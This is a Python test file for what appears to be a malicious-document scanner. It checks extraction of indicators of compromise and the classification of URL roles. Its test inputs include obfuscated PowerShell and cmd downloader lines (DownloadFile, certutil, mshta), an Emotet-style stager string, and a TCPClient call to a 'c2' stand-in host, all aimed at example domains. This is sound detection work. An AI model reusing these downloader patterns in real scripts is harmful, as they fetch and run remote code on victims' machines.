"""Indicators of texts: which are found, and what must not become one."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from linear import assert_linear

from emoscan.budget import Budget, Limits
from emoscan.context import Context
from emoscan.detect.iocs import find, find_indicators
from emoscan.graph import Added, Graph, Stated
from emoscan.model import Artifact, Edge, Fact
from emoscan.parse.bundle import Control, Document, Module, VbaProject, dump
from emoscan.report import _iocs


def of(text, kind="text.plain", *types):
    return [(i.type, i.value) for i in find(text, kind) if not types or i.type in types]


def roles(text, kind):
    return [(i.value, i.role) for i in find(text, kind) if i.type == "url"]


@pytest.mark.parametrize(
    ("text", "type_", "value"),
    [
        ("mail k.sato@example.co.jp now", "email", "k.sato@example.co.jp"),
        ("mail k.sato[at]example[.]co[.]jp now", "email", "k.sato@example.co.jp"),
        ("the server 192.0.2.7 answered", "ipv4", "192.0.2.7"),
        ("192[.]0[.]2[.]7", "ipv4", "192.0.2.7"),
        ("at 2001:db8::8a2e:370:7334 today", "ipv6", "2001:db8::8a2e:370:7334"),
        ("look at files.example.com for it", "domain", "files.example.com"),
        ("files[.]example[.]com", "domain", "files.example.com"),
        (r"saved as C:\ProgramData\a\b.dll today", "file_path", r"C:\ProgramData\a\b.dll"),
        (r'"C:\Program Files\a b\c.exe"', "file_path", r"C:\Program Files\a b\c.exe"),
        (r"%TEMP%\x.exe", "file_path", r"%TEMP%\x.exe"),
        (r"$env:temp\x.exe", "file_path", r"$env:temp\x.exe"),
        (r"\\files.example.test\share\x.js", "file_path", r"\\files.example.test\share\x.js"),
        (
            r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run",
            "registry_key",
            r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
        ),
        (r"HKCU:\\SOFTWARE\\Abc", "registry_key", r"HKCU\SOFTWARE\Abc"),
    ],
)
def test_types(text, type_, value):
    assert (type_, value) in of(text)


CODE = [
    ("script.powershell", "[System.Net.WebClient]::new().Headers.Add('User-Agent', 'x'); $a.Length.ToString(); Import-Module Az.Accounts"),
    ("script.vba", 'x = VBA.Shell("notepad.exe", 0): ThisDocument.Name = "report.doc": y = Me.TextBox1.Text'),
    ("script.js", "window.location.href = a.b.call(this); console.log(module.name); require('./data.zip')"),
    ("script.vbs", 'WScript.Shell.Run: fso.OpenTextFile("readme.md")'),
    ("script.cmd", "copy setup.exe %TEMP%\\x.exe & echo v1.2.3.4"),
    ("text.plain", "Open invoice.doc, data.zip, setup.sh or index.php; see section 1.2.3.4 and version 10.0.17763.1"),
    ("text.plain", "Hello.World this ends.Here"),
    (
        "text.xml",
        '<a xmlns="http://schemas.microsoft.com/office/word/2003/wordml" xmlns:b="http://www.w3.org/2001/XMLSchema" c="http://schemas.openxmlformats.org/x"/>',
    ),
    ("text.html", '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'),
    ("script.powershell", "if ($a -eq 127.0.0.1) { 255.255.255.0; 0.0.0.0; '4.0.0.0' }"),
    ("text.plain", "12:34:56 and 00:1a:2b:3c:4d:5e and std::vector and a::b"),
]


@pytest.mark.parametrize(("kind", "text"), CODE)
def test_ordinary_code_and_text_name_nothing(kind, text):
    assert of(text, kind, "url", "domain", "ipv4", "ipv6", "email") == []


def test_what_a_script_asks_the_name_service_for():
    assert ("domain", "l.ns.example.com") in of("nslookup -q=txt l.ns.example.com.", "script.powershell")
    assert ("domain", "c2.example.com") in of("(New-Object Net.Sockets.TCPClient('c2.example.com',443))", "script.powershell")


@pytest.mark.parametrize(
    ("kind", "text", "expected"),
    [
        (
            "script.powershell",
            "(New-Object Net.WebClient).DownloadFile('http://a.example.test/x','y')",
            [("http://a.example.test/x", "download")],
        ),
        (
            "script.powershell",
            "(n`Ew-o`B Net.WebC`lient).DoW`NloadFile('ht'+'tp://a.example.test/x','y')",
            [("http://a.example.test/x", "download")],
        ),
        ("script.cmd", "mshta h^tt^p^:/^/0xC0000205/x.html", [("http://192.0.2.5/x.html", "download")]),
        ("script.cmd", "certutil -urlcache -f http://a.example.test/x y", [("http://a.example.test/x", "download")]),
        ("script.vba", 'x = "http://a.example.test/x"', [("http://a.example.test/x", "reference")]),
        (
            "script.vba",
            '\' see http://b.example.test/q\nURLDownloadToFile 0, "http://a.example.test/x", "y", 0, 0',
            [("http://b.example.test/q", "reference"), ("http://a.example.test/x", "download")],
        ),
        (
            "script.powershell",
            "Write-Host 'see http://a.example.test/help'\niwr http://b.example.test/x",
            [("http://a.example.test/help", "reference"), ("http://b.example.test/x", "download")],
        ),
        ("text.plain", "see http://a.example.test/x", [("http://a.example.test/x", "link")]),
        ("text.html", '<a href="http://a.example.test/?a=1&amp;b=2">', [("http://a.example.test/?a=1&b=2", "link")]),
        ("windows.url", "[InternetShortcut]\nURL=http://a.example.test/", [("http://a.example.test/", "link")]),
        ("text.csv", "http://a.example.test/", [("http://a.example.test/", "reference")]),
    ],
)
def test_roles(kind, text, expected):
    assert roles(text, kind) == expected


EMOTET = (
    "$abc='xyz';$def=.('new-ob'+'ject') net.webclient;$u='http://a.example.test/wp/x1/@http://b.example.test/y2@"
    'https://c.example.test/z3/\'."s`PliT"(\'@\');foreach($i in $u){try{$def."doWn`loadF`iLe"($i,$p);break}catch{}}'
)


def test_the_list_of_a_stager_in_its_order():
    assert roles(EMOTET, "script.powershell") == [
        ("http://a.example.test/wp/x1/", "download"),
        ("http://b.example.test/y2", "download"),
        ("https://c.example.test/z3/", "download"),
    ]


def run(artifact, **limits):
    return list(find_indicators(artifact, Context(Budget(Limits(**limits)))))


def test_strings_around_macros():
    controls = (Control("TextBox1", "TextBox", {"Value": "http://a.example.test/x"}),)
    project = VbaProject((Module("M", 'x = "http://b.example.test/"'),), document=Document(controls=controls))
    assert [(f.value, f.detail["role"]) for f in run(Artifact("script.vba-project", dump(project)))] == [
        ("http://a.example.test/x", "reference")
    ]


def test_a_mail_names_its_sender_only():
    mail = b"Received: from x ([192.0.2.1])\r\nFrom: A <a@example.com>\r\nReply-To: b@example.com\r\nX-Originating-IP: [192.0.2.44]\r\n\r\nhttp://a.example.test/\r\n"
    assert [(f.kind, f.value, f.detail["role"]) for f in run(Artifact("mail.rfc822", mail))] == [
        ("ioc.email", "a@example.com", "sender"),
        ("ioc.email", "b@example.com", "sender"),
        ("ioc.ipv4", "192.0.2.44", "sender"),
    ]


def test_a_flood_of_indicators_is_cut_and_said_to_be():
    text = " ".join(f"http://a{i}.example.test/" for i in range(2100)).encode()
    found = run(Artifact("text.plain", text))
    assert len(found) == 2001
    assert (found[-1].sort, found[-1].name) == ("limit", "indicators")


# ---------------------------------------------------------------- in the report


def report(*facts):
    graph = Graph()
    root, script = Artifact("office.ole", b"root"), Artifact("script.vba", b"script")
    graph.apply(Added(root))
    graph.apply(Added(script, Edge(root.id, script.id, "s")))
    for artifact, fact in facts:
        graph.apply(Stated((root, script)[artifact].id, fact))
    return [(i.type, i.value, i.role) for i in _iocs(graph)]


def url(value, role, confidence=1.0):
    return Fact("ioc.url", value, confidence=confidence, detail={"role": role})


def test_what_would_be_downloaded_comes_first_and_in_its_order():
    rows = report(
        (0, Fact("link.external", "https://t.example.test/a.dotm", "attachedTemplate")),
        (0, Fact("link.external", "http://l.example.test/", "hyperlink")),
        (0, Fact("link.external", "sheet2.xml", "hyperlink")),
        (1, url("http://b.example.test/", "reference")),
        (1, url("http://a.example.test/", "reference")),
        (1, Fact("effect.download", "hxxp://A.example.test/")),
        (1, Fact("effect.download", "http://c.example.test/")),
        (1, Fact("effect.download", "something unknown")),
    )
    assert rows == [
        ("url", "http://a.example.test/", "download"),
        ("url", "http://c.example.test/", "download"),
        ("url", "http://b.example.test/", "reference"),
        ("url", "https://t.example.test/a.dotm", "template"),
        ("url", "http://l.example.test/", "link"),
    ]


def test_a_cut_url_goes_where_the_whole_is_known():
    assert report((1, url("http://a.example.test/", "download", 0.5)), (1, url("http://a.example.test/x1", "download"))) == [
        ("url", "http://a.example.test/x1", "download")
    ]
    assert report((1, url("http://a.example.test/", "download", 0.5))) == [("url", "http://a.example.test/", "download")]


# ---------------------------------------------------------------- hostile input


@given(
    st.text(max_size=300),
    st.sampled_from(["text.plain", "text.html", "script.powershell", "script.vba", "script.cmd", "script.js", "windows.url"]),
)
def test_any_text(text, kind):
    find(text, kind)


@given(st.binary(max_size=300), st.sampled_from(["text.plain", "mail.rfc822", "script.vba-project", "script.xlm-workbook", "script.js"]))
def test_any_bytes(data, kind):
    run(Artifact(kind, data))


FLOODS = [
    "1",
    ".",
    "1.",
    "0xff",
    " ",
    "http://",
    "http://a.example.test/ ",
    "a.",
    "a@",
    "a@b.",
    "C:\\",
    "\\\\a\\",
    "HKLM\\",
    "%a",
    "[.]",
    '"',
    "a.example.com ",
    "::",
    "f:",
]


@pytest.mark.parametrize("unit", FLOODS)
@pytest.mark.parametrize("kind", ["text.plain", "script.powershell"])
def test_linear_on_floods(unit, kind):
    assert_linear(lambda text: find(text, kind), unit, 20_000)


def test_quick():
    text = ("$x = Get-Item C:\\a\\b.txt; Write-Host 'hello world' # and so on\n" * 2000)[:100_000]
    find(text, "script.powershell")
    start = time.process_time()
    find(text, "script.powershell")
    assert time.process_time() - start < 0.5  # 10 ms on an idle machine
